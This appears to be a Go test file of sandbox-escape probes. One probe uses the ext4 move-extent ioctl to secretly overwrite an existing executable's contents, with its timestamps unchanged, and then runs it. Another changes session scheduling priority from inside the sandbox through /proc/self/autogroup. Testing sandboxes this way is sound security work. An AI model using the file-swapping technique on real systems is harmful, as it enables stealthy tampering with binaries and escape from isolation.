package escapetest

// Probe ops of the second attack round (attack2_test.go).

import (
	"fmt"
	"os"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// ext4IocMoveExt is EXT4_IOC_MOVE_EXT: _IOWR('f', 15, struct move_extent).
const ext4IocMoveExt = 0xc028660f

type moveExtent struct {
	Reserved   uint32
	DonorFD    uint32
	OrigStart  uint64
	DonorStart uint64
	Len        uint64
	MovedLen   uint64
}

func init() {
	// moveext-exec SRC ORIG DONOR ARGV...: write SRC's bytes to a fresh
	// file ORIG and fsync it; EXT4_IOC_MOVE_EXT from ORIG into DONOR (an
	// existing file, opened for write as the donor): DONOR's extents now
	// point at ORIG's old blocks, i.e. SRC's bytes, and DONOR's inode
	// times are not touched. Wait for the test (which evicts caches), then
	// exec DONOR ARGV. Effect: the output has "pwned".
	ops["moveext-exec"] = func(r *result, a []string) {
		src, orig, donor := a[0], a[1], a[2]
		of, err := os.OpenFile(orig, os.O_CREATE|os.O_RDWR|os.O_TRUNC, 0o644)
		if !setup(r, err, "create "+orig) {
			return
		}
		defer of.Close()
		if !setup(r, copyFile(of, src), "write "+orig) || !setup(r, of.Sync(), "fsync "+orig) {
			return
		}
		var before unix.Stat_t
		_ = unix.Stat(donor, &before)
		df, err := os.OpenFile(donor, os.O_WRONLY, 0)
		if !setup(r, err, "open donor "+donor) {
			return
		}
		st, _ := of.Stat()
		me := moveExtent{DonorFD: uint32(df.Fd()), Len: uint64((st.Size() + 4095) / 4096)}
		_, _, e := unix.Syscall(unix.SYS_IOCTL, of.Fd(), ext4IocMoveExt, uintptr(unsafe.Pointer(&me)))
		df.Close()
		if e != 0 {
			r.Setup = fmt.Sprintf("EXT4_IOC_MOVE_EXT: %v", e)
			return
		}
		var after unix.Stat_t
		_ = unix.Stat(donor, &after)
		fmt.Fprintf(os.Stderr, "moveext: moved %d blocks; donor ctime %d.%09d -> %d.%09d\n", me.MovedLen,
			before.Ctim.Sec, before.Ctim.Nsec, after.Ctim.Sec, after.Ctim.Nsec)
		syncPoint()
		runProgram(r, a[2:], nil, nil)
		r.Effect = strings.Contains(r.Out, "pwned")
	}
	// autogroup-nice N: write N to /proc/self/autogroup (the nice level of
	// the caller's session autogroup, shared with every process of the
	// session, inside the sandbox or not).
	ops["autogroup-nice"] = func(r *result, a []string) {
		time.Sleep(200 * time.Millisecond) // the kernel's 100 ms rate limit
		errnoOf(r, writeFile("/proc/self/autogroup", a[0]), "write /proc/self/autogroup")
	}
}
